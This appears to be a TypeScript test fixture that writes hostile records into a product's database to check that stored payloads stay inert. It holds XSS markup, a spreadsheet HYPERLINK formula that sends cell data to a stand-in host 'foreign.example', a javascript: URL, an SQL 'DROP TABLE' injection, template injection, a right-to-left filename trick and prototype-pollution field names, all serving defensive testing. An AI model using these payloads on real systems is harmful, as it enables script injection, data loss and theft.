import { openDatabase } from 'api/storage/database';
import { makeTimeOrderedId } from 'api/storage/time-ordered-id';
import { profileBody, profileImage } from 'contract/profile';
import { recordKinds } from 'contract/review';
import type { RecordKind } from 'contract/review';
import { submissions } from 'contract/submissions';

/** A request to this host proves that a payload was executed. */
export const foreignHost = 'foreign.example';

export const markup = `"><img src="https://${foreignHost}/pixel" onerror=alert(1)><script>alert(2)</script>`;

/** On one letter: 160 of them. */
export const stackedDiacritics = '\u0301\u0302\u0303\u0304'.repeat(40);

/** SAFETY 3.C, accepted and inert, with what else has run in other consoles: addresses, formulas, templates. */
const payloads = [
  markup,
  `=HYPERLINK("https://${foreignHost}/?"&A1,"Open")`,
  `javascript:alert(3)//@${foreignHost}`,
  `//${foreignHost}/picture`,
  "@SUM(1)'; DROP TABLE submissions; --",
  `{{constructor.constructor('alert(4)')()}}\u202Etxt.exe 👩‍👩‍👧 Ọlọ́run ß e${stackedDiacritics}`,
] as const;

/** Names of fields that no form has and no visitor can send, should the server ever send them. */
const hostileFields = [markup, 'constructor', '__proto__'] as const;

/**
 * Writes records past every check into a product's storage: in each of the sixteen sections all payloads in every
 * field, each record twice, so that there are groups; and one of each section in quarantine. Answers the ids of the
 * originals, oldest first.
 */
export async function storeHostileRecords(
  dataDir: string,
): Promise<ReadonlyMap<RecordKind, readonly string[]>> {
  const database = await openDatabase({ dataDir });
  const originals = new Map<RecordKind, readonly string[]>();
  for (const kind of recordKinds) {
    const first = payloads.map((_, turn) => rowOf(hostileBody(kind, turn)));
    const second = payloads.map((_, turn) => rowOf(hostileBody(kind, turn)));
    const rows = [...first, ...second, rowOf(hostileBody(kind, 0), 'honeypot')];
    originals.set(
      kind,
      first.map(({ id }) => id),
    );
    await (
      kind === 'profiles'
        ? database.insertInto('profiles').values(rows.map(asMember))
        : database.insertInto('submissions').values(rows.map((row) => ({ ...row, kind, ...plain })))
    ).execute();
  }
  await database.destroy();
  return originals;
}

const fieldsOf = (kind: RecordKind): readonly string[] =>
  kind === 'profiles'
    ? [...Object.keys(profileBody.properties), profileImage.field]
    : Object.keys(submissions[kind].body.properties);

/** JSON text, in which `__proto__` is a field like any other. */
function hostileBody(kind: RecordKind, turn: number): string {
  const entries = [...fieldsOf(kind), ...hostileFields].map(
    (field, place) => [field, payloads[(turn + place) % payloads.length]] as const,
  );
  return `{${entries.map((entry) => entry.map((text) => JSON.stringify(text)).join(':')).join()}}`;
}

const plain = { consent: null, idempotency_key: null };

function rowOf(body: string, quarantine: string | null = null) {
  const time = new Date().toISOString();
  return {
    id: makeTimeOrderedId(),
    body,
    created_at: time,
    updated_at: time,
    version: 0,
    quarantine,
  };
}

const asMember = (row: ReturnType<typeof rowOf>) => ({
  ...row,
  // Unlike the one that the record shows, it is never the same twice.
  email: row.id,
  password_hash: '',
  is_admin: 0,
});
